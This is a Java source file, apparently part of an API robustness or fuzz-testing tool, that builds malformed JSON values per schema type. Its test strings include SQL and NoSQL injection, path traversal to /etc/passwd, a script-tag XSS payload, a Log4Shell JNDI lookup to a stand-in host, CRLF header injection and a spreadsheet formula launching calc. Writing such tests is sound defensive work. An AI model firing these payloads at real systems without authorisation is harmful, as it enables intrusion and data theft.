package id.anugerah.journeys.malice;

import id.anugerah.journeys.malice.Shape.Kind;

import java.util.ArrayList;
import java.util.List;

/** Everything that can be wrong with a value of some shape. */
final class Flaws {
    /** More than any body may hold. */
    private static final int MEGABYTE = 1 << 20;

    private static final int DEEP = 20_000;

    // what stands in a text: half a pair, NUL, controls, what turns the direction, what nobody sees
    private static final List<String> UNSEEN =
            List.of(
                    "\\u0000",
                    "\\ud800",
                    "\\udc00x",
                    "\\u0007",
                    "\\u001b[31m",
                    "\\u202e",
                    "\\u2066",
                    "\\u200b",
                    "\\u2060",
                    "\\ufeff",
                    "\\u00ad");
    private static final List<String> ODD =
            List.of(
                    "'; drop table entries; --",
                    "{\\\"$ne\\\": 1}",
                    "$where: sleep(5000)",
                    "../../../../etc/passwd",
                    "<script>alert(1)</script>",
                    "${jndi:ldap://x.example/a}",
                    "#{7*7}",
                    "%00%0d%0aX-Evil: 1",
                    "=cmd|' /C calc'!A0",
                    "\\ud83d\\ude00",
                    "(a+)+$",
                    "null",
                    " ",
                    "");
    private static final List<String> OPERATORS =
            List.of(
                    "{\"$ne\":1}",
                    "{\"$gt\":\"\"}",
                    "{\"$where\":\"sleep(5000)\"}",
                    "{\"$regex\":\".*\"}",
                    "[{\"$ne\":null}]");

    private Flaws() {}

    /** The flaws of a value in a JSON body. */
    static List<Flaw> of(Shape shape, boolean required) {
        List<Flaw> flaws = new ArrayList<>();
        flaws.add(required ? Flaw.wrong("missing", null) : Flaw.odd("missing", null));
        flaws.add(required ? Flaw.wrong("null", "null") : Flaw.odd("null", "null"));
        if (shape.kind() == Kind.MAP) {
            maps(flaws);
        } else {
            OPERATORS.forEach(one -> flaws.add(Flaw.wrong("operator", one)));
        }
        flaws.add(Flaw.wrong("deep list", "[".repeat(DEEP) + "]".repeat(DEEP)));
        flaws.add(Flaw.wrong("deep object", "{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP)));
        flaws.add(Flaw.wrong("shallow nesting", "[".repeat(90) + "]".repeat(90)));
        switch (shape.kind()) {
            case TEXT -> texts(flaws, shape);
            case WHOLE -> whole(flaws, shape);
            case NUMBER -> numbers(flaws);
            case FLAG -> flags(flaws);
            case LIST -> lists(flaws, shape);
            case FORM, MAP -> otherThanObjects(flaws);
            case BYTES -> {}
        }
        return flaws;
    }

    private static void texts(List<Flaw> flaws, Shape shape) {
        for (var value : List.of("1", "1.5", "true", "[]", "{}", "[\"x\"]")) {
            flaws.add(Flaw.wrong("no text", value));
        }
        for (var unseen : UNSEEN) {
            boolean refused = !unseen.equals("\\u00ad");
            flaws.add(new Flaw("unseen character", quoted(unseen), refused));
            flaws.add(new Flaw("unseen character", quoted("a" + unseen + "b"), refused));
        }
        for (var odd : ODD) flaws.add(Flaw.odd("odd text", quoted(odd)));
        flaws.add(Flaw.wrong("a megabyte", quoted("x".repeat(MEGABYTE))));
        if (shape.most() > 0) {
            flaws.add(Flaw.wrong("too long", quoted("x".repeat(shape.most() + 1))));
            flaws.add(Flaw.wrong("much too long", quoted("é".repeat(shape.most() * 20))));
        } else {
            flaws.add(Flaw.odd("long", quoted("x".repeat(50_000))));
        }
        if (!shape.pattern().isEmpty()) flaws.add(Flaw.wrong("pattern", quoted("#\\n#")));
        if (!shape.choices().isEmpty()) {
            flaws.add(Flaw.wrong("no choice", quoted("NONE_OF_THEM")));
            flaws.add(Flaw.wrong("no choice", quoted(shape.choices().getFirst() + " ")));
        }
        switch (shape.format()) {
            case "email" -> {
                for (var one : List.of("nobody", "a@b@c", "@x.example", "a b@x.example", "x@")) {
                    flaws.add(Flaw.wrong("no address", quoted(one)));
                }
            }
            case "date-time" -> {
                for (var one :
                        List.of(
                                "yesterday",
                                "2026-02-30T00:00:00Z",
                                "2026-01-01",
                                "+999999999-12")) {
                    flaws.add(Flaw.wrong("no time", quoted(one)));
                }
                flaws.add(Flaw.odd("far away", quoted("+1000000000-12-31T23:59:59Z")));
                flaws.add(Flaw.odd("long ago", quoted("-1000000000-01-01T00:00:00Z")));
            }
            case "date" -> {
                for (var one :
                        List.of("tomorrow", "2026-02-30", "2026-01-01T00:00:00Z", "20260101")) {
                    flaws.add(Flaw.wrong("no date", quoted(one)));
                }
                flaws.add(Flaw.odd("far away", quoted("+999999999-12-31")));
                flaws.add(Flaw.odd("long ago", quoted("-999999999-01-01")));
            }
            default -> {}
        }
    }

    private static void whole(List<Flaw> flaws, Shape shape) {
        notNumbers(flaws);
        flaws.add(Flaw.wrong("fraction", "1.5"));
        flaws.add(Flaw.wrong("exponent", "1e400"));
        flaws.add(Flaw.wrong("beyond", "9223372036854775808"));
        flaws.add(Flaw.wrong("many digits", "9".repeat(2_000)));
        flaws.add(new Flaw("beyond", "2147483648", shape.format().equals("int32")));
        flaws.add(Flaw.odd("negative", "-1"));
        flaws.add(Flaw.odd("least", "-2147483648"));
    }

    private static void numbers(List<Flaw> flaws) {
        notNumbers(flaws);
        flaws.add(Flaw.odd("exponent", "1e999999999"));
        flaws.add(Flaw.odd("exponent", "1e-999999999"));
        flaws.add(Flaw.odd("exponent", "1e99999999999"));
        flaws.add(Flaw.odd("many digits", "9".repeat(2_000)));
        flaws.add(Flaw.odd("many digits", "0." + "9".repeat(900)));
        flaws.add(Flaw.odd("negative", "-1"));
    }

    private static void notNumbers(List<Flaw> flaws) {
        for (var value : List.of("\"1\"", "\"\"", "true", "[]", "{}", "[1]")) {
            flaws.add(Flaw.wrong("no number", value));
        }
        for (var value : List.of("NaN", "Infinity", "+1", "01", "0x10", ".5", "1_000")) {
            flaws.add(Flaw.wrong("no JSON", value));
        }
    }

    private static void flags(List<Flaw> flaws) {
        for (var value : List.of("\"true\"", "1", "0", "\"\"", "[]", "{}", "[true]")) {
            flaws.add(Flaw.wrong("no flag", value));
        }
        flaws.add(Flaw.wrong("no JSON", "True"));
    }

    private static void lists(List<Flaw> flaws, Shape shape) {
        for (var value : List.of("\"x\"", "1", "true", "{}", "{\"0\":\"x\"}")) {
            flaws.add(Flaw.wrong("no list", value));
        }
        flaws.add(Flaw.wrong("null inside", "[null]"));
        if (shape.most() > 0) {
            var items = "\"x\",".repeat(shape.most() + 1);
            flaws.add(Flaw.wrong("too many", "[" + items.substring(0, items.length() - 1) + "]"));
        }
        flaws.add(Flaw.odd("very many", "[" + "\"\",".repeat(100_000) + "\"\"]"));
    }

    private static void maps(List<Flaw> flaws) {
        for (var key : List.of("$ne", "a.b", "", "\\u0000", "\\ud800", "__proto__", "\\u202ex")) {
            flaws.add(Flaw.odd("odd key", "{\"" + key + "\":{}}"));
            flaws.add(Flaw.odd("odd key", "{\"" + key + "\":null}"));
        }
        flaws.add(Flaw.wrong("same key twice", "{\"a\":{},\"a\":{}}"));
        flaws.add(Flaw.odd("long key", "{\"" + "k".repeat(200_000) + "\":{}}"));
        var many = new StringBuilder("{");
        for (int i = 0; i < 5_000; i++) many.append("\"k").append(i).append("\":{},");
        flaws.add(Flaw.odd("many keys", many + "\"z\":{}}"));
    }

    private static void otherThanObjects(List<Flaw> flaws) {
        for (var value : List.of("\"x\"", "\"\"", "1", "true", "[]", "[{}]")) {
            flaws.add(Flaw.wrong("no object", value));
        }
    }

    private static String quoted(String text) {
        return '"' + text + '"';
    }
}
